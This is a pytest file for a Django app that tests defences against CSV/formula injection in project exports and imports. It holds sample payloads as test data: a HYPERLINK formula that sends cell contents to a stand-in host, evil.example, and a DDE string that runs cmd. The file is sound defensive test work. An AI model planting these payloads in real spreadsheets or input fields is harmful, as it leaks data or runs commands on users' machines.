"""No export runs a formula when opened (OWASP CSV injection), and no import takes one in."""

import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from cooperation.models import Project
from cooperation.spreadsheets import csv_cell, would_run
from tests.factories import admin_import, csv_file, make_project, xlsx_file
from tests.test_exports import read_export

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DDE = "+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PROJECTS = reverse("cooperation:project-list")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_a_spreadsheet_would_run_is_neutralised(text):
    assert would_run(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["紫云红心薯", "-12.5", "+86", "1e6", "a=b", "", "—"])
def test_plain_text_and_numbers_are_left_alone(text):
    assert not would_run(text)
    assert csv_cell(text) == text


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def assert_no_formula(content, texts):
    """No formula cell in the workbook, and each text reads back exactly, as text."""
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
    values = {
        cell.value for row in openpyxl.load_workbook(io.BytesIO(content)).active for cell in row
    }
    for text in texts:
        assert text.replace("\r", "\n") in values or text in values


@pytest.fixture
def hostile(world):
    projects = [
        make_project(world.pairing, world.source, title=text, slug=f"hostile-{number}")
        for number, text in enumerate(PAYLOADS)
    ]
    make_project(world.pairing, world.source, title="紫云茶叶", slug="tea", funds=3_056_500)
    return projects


def test_public_csv_export_starts_every_runnable_cell_with_an_apostrophe(hostile, client):
    rows = read_export(client.get(PROJECTS, {"_export": "csv"}), "csv")
    titles = {row["title"] for row in rows}
    for text in PAYLOADS:
        assert "'" + text.replace("\r", "\n") in titles or "'" + text in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)
    amounts = {row["funds"] for row in rows}
    assert "3056500.00" in amounts


def test_public_xlsx_export_has_no_formula_and_numbers_stay_numbers(hostile, client):
    response = client.get(PROJECTS, {"_export": "xlsx"})
    assert_no_formula(response.content, [HYPERLINK, DDE])
    rows = read_export(response, "xlsx")
    tea = next(row for row in rows if row["title"] == "紫云茶叶")
    assert tea["funds"] == 3056500


def test_public_json_export_keeps_the_text_as_stored(hostile, client):
    rows = read_export(client.get(PROJECTS, {"_export": "json"}), "json")
    assert {HYPERLINK, DDE} <= {row["title"] for row in rows}


def admin_export(client, model_name, extension):
    url = reverse(f"admin:cooperation_{model_name}_export")
    form = client.get(url).context["form"]
    choice = next(key for key, label in form.fields["format"].choices if label == extension)
    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
    response = client.post(url, {"format": choice, "resource": "0", **columns})
    assert response.status_code == 200
    return response.content


def test_admin_csv_export_neutralises_runnable_cells(hostile, admin_client):
    text = admin_export(admin_client, "project", "csv").decode("utf-8-sig")
    assert f"'{DDE}" in text
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"' in text
    assert not re.search(r"(^|,)[=+@]", text, re.MULTILINE)


def test_admin_xlsx_export_has_no_formula_and_numbers_stay_numbers(hostile, admin_client, world):
    from tests.factories import make_figure

    make_figure(world.source, Decimal("3056500"), project=Project.objects.get(slug="tea"))
    assert_no_formula(admin_export(admin_client, "project", "xlsx"), [HYPERLINK, DDE])
    figures = openpyxl.load_workbook(io.BytesIO(admin_export(admin_client, "figure", "xlsx")))
    header, *rows = figures.active.iter_rows(values_only=True)
    values = [row[header.index("数值")] for row in rows]
    assert values and all(isinstance(value, int | float | Decimal) for value in values)


def import_titles(client, world, extension, titles):
    header = ["slug", "title", "category", "pairing", "source"]
    rows = [
        [f"imported-{n}", title, "industry", world.pairing.pk, world.source.slug]
        for n, title in enumerate(titles)
    ]
    build = csv_file if extension == "csv" else xlsx_file
    return admin_import(client, "project", f"projects.{extension}", build(header, rows))


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_import_refuses_a_formula_cell(admin_client, world, extension):
    response = import_titles(admin_client, world, extension, ["紫云茶叶", "=1+1"])
    assert response.status_code == 200
    assert "第2行“title”列是公式" in response.content.decode()
    assert "confirm_form" not in response.context
    assert not Project.objects.filter(slug__startswith="imported-").exists()


def test_an_exported_neutralised_cell_imports_as_it_was_stored(admin_client, world):
    response = import_titles(admin_client, world, "csv", ["'-5%增长", "'@紫云"])
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    titles = [row.object_repr for row in result.valid_rows()]
    assert titles == ["-5%增长", "@紫云"]
